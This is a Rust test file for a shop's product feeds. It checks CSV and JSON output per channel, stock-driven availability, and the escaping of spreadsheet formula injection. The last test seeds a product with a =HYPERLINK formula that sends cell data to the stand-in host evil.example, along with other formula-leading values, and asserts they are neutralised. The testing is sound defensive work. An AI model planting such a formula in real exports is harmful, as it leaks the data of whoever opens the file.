//! Product feeds: valid CSV and JSON of the active catalog per channel,
//! the same from the HTTP route and the CLI, and availability that follows
//! stock changes.

use sea_orm::{ColumnTrait, EntityTrait, QueryFilter};
use serde_json::{Value, json};

use crate::{
    accounts,
    harness::{Options, TestApp},
};

async fn get(app: &TestApp, path: &str) -> (u16, Option<String>, String) {
    let res = app
        .client
        .get(format!("{}{path}", app.base))
        .send()
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let status = res.status().as_u16();
    let ct = res
        .headers()
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .map(str::to_owned);
    (status, ct, res.text().await.unwrap_or_default())
}

fn csv_rows(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let header = r
        .headers()
        .unwrap_or_else(|e| panic!("{e}"))
        .iter()
        .map(str::to_owned)
        .collect();
    let rows = r
        .records()
        .map(|rec| {
            rec.unwrap_or_else(|e| panic!("bad CSV: {e}"))
                .iter()
                .map(str::to_owned)
                .collect()
        })
        .collect();
    (header, rows)
}

#[tokio::test]
async fn feeds_list_every_priced_variant_of_active_products_as_csv_and_json() {
    // More products than one page of the feed (200).
    let app = TestApp::spawn_with(Options {
        products: Some(230),
        ..Default::default()
    })
    .await;
    let (status, ct, csv_text) = get(&app, "/feeds/default.csv").await;
    assert_eq!(status, 200);
    assert_eq!(ct.as_deref(), Some("text/csv; charset=utf-8"));
    let (header, rows) = csv_rows(&csv_text);
    assert_eq!(
        header,
        [
            "id",
            "item_group_id",
            "title",
            "description",
            "link",
            "image_link",
            "availability",
            "price",
            "brand",
            "gtin"
        ]
    );
    // The storefront agrees on what is for sale: every active product's priced variants.
    let storefront = app
        .query("{ products(first: 250) { totalCount nodes { handle variants { sku price { amount } } } } }", json!({}))
        .await;
    let expected: usize = storefront["products"]["nodes"]
        .as_array()
        .map(|ps| {
            ps.iter()
                .flat_map(|p| p["variants"].as_array().cloned().unwrap_or_default())
                .filter(|v| !v["price"].is_null())
                .count()
        })
        .unwrap_or(0);
    assert_eq!(rows.len(), expected);
    assert!(
        rows.iter()
            .all(|r| r[7].ends_with(" USD") && r[4].contains("/products/"))
    );
    assert!(
        rows.iter()
            .all(|r| ["in_stock", "out_of_stock", "backorder"].contains(&r[6].as_str()))
    );
    let first = &rows[0];
    assert_eq!(
        (first[0].as_str(), first[1].as_str()),
        ("EMP-00000-01", "pocket-journal-0")
    );

    let (status, ct, json_text) = get(&app, "/feeds/eu.json").await;
    assert_eq!((status, ct.as_deref()), (200, Some("application/json")));
    let items: Vec<Value> =
        serde_json::from_str(&json_text).unwrap_or_else(|e| panic!("bad JSON: {e}"));
    assert!(!items.is_empty());
    assert!(
        items
            .iter()
            .all(|i| i["price"].as_str().is_some_and(|p| p.ends_with(" EUR")))
    );

    assert_eq!(get(&app, "/feeds/nowhere.csv").await.0, 404);
    assert_eq!(get(&app, "/feeds/default.xml").await.0, 404);

    // The CLI writes the same feed.
    let out = app.cli(&["export", "feed", "--format", "csv"], &[]).await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout), csv_text);
}

#[tokio::test]
async fn availability_in_the_feed_follows_stock_changes() {
    let app = TestApp::spawn_with(Options {
        products: Some(10),
        ..Default::default()
    })
    .await;
    // A tracked variant that cannot be backordered.
    let v = entity::variant::Entity::find()
        .filter(entity::variant::Column::TrackInventory.eq(true))
        .filter(entity::variant::Column::AllowBackorder.eq(false))
        .one(&app.db)
        .await
        .unwrap_or_else(|e| panic!("{e}"))
        .unwrap_or_else(|| panic!("no tracked variant"));
    let availability = |text: &str| -> String {
        let items: Vec<Value> = serde_json::from_str(text).unwrap_or_default();
        items
            .iter()
            .find(|i| i["id"] == v.sku.as_str())
            .map(|i| i["availability"].as_str().unwrap_or("").to_owned())
            .unwrap_or_else(|| "missing".into())
    };
    let (token, _) = accounts::partner_token(&app, &["inventory:write"], None).await;
    let set = "mutation($i: InventorySetQuantitiesInput!) { inventorySetQuantities(input: $i) { appliedCount } }";
    let rows = |n: i64| {
        json!({ "i": { "quantities": [
        { "sku": v.sku, "location": "warehouse", "onHand": n },
        { "sku": v.sku, "location": "store", "onHand": 0 },
    ] } })
    };
    app.query_as(&token, set, rows(4)).await;
    assert_eq!(
        availability(&get(&app, "/feeds/default.json").await.2),
        "in_stock"
    );
    app.query_as(&token, set, rows(0)).await;
    assert_eq!(
        availability(&get(&app, "/feeds/default.json").await.2),
        "out_of_stock"
    );
}

#[tokio::test]
async fn csv_cells_cannot_run_as_formulas_and_links_are_encoded() {
    let app = TestApp::spawn_with(Options {
        products: Some(2),
        ..Default::default()
    })
    .await;
    let admin = accounts::staff_user(
        &app,
        "admin@example.com",
        emporium::domain::identity::permission::Role::Admin,
    )
    .await;
    let created = app
        .query_as(
            &admin.access,
            "mutation($i: ProductCreateInput!) { productCreate(input: $i) { product { handle } userErrors { field code message } } }",
            json!({ "i": {
                "title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "description": "+1 call us",
                "vendor": "@SUM(1+1)",
                "status": "ACTIVE",
                "variants": [{
                    "sku": "-SKU &x=1#y",
                    "trackInventory": false,
                    "prices": [{ "channel": "default", "amount": "9.99" }],
                }],
            } }),
        )
        .await;
    assert_eq!(
        created["productCreate"]["userErrors"],
        json!([]),
        "{created}"
    );
    let handle = created["productCreate"]["product"]["handle"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    let link = format!(
        "{}/products/{handle}?variant=-SKU%20%26x%3D1%23y",
        emporium::config::DEFAULT_STOREFRONT_URL
    );

    let (_, rows) = csv_rows(&get(&app, "/feeds/default.csv").await.2);
    let row = rows
        .iter()
        .find(|r| r[0].contains("SKU &x=1#y"))
        .unwrap_or_else(|| panic!("the product is not in the feed"));
    assert_eq!(row[0], "'-SKU &x=1#y");
    assert_eq!(
        row[2],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    );
    assert_eq!(row[3], "'+1 call us");
    assert_eq!(row[4], link);
    assert_eq!(row[8], "'@SUM(1+1)");
    // No cell of the feed starts a formula.
    assert!(
        rows.iter()
            .flatten()
            .all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])),
    );

    // JSON carries the values as they are, with the same encoded link.
    let items: Vec<Value> =
        serde_json::from_str(&get(&app, "/feeds/default.json").await.2).unwrap_or_default();
    let item = items
        .iter()
        .find(|i| i["id"] == "-SKU &x=1#y")
        .unwrap_or_else(|| panic!("the product is not in the JSON feed"));
    assert_eq!(item["brand"], "@SUM(1+1)");
    assert_eq!(item["link"], link.as_str());
}
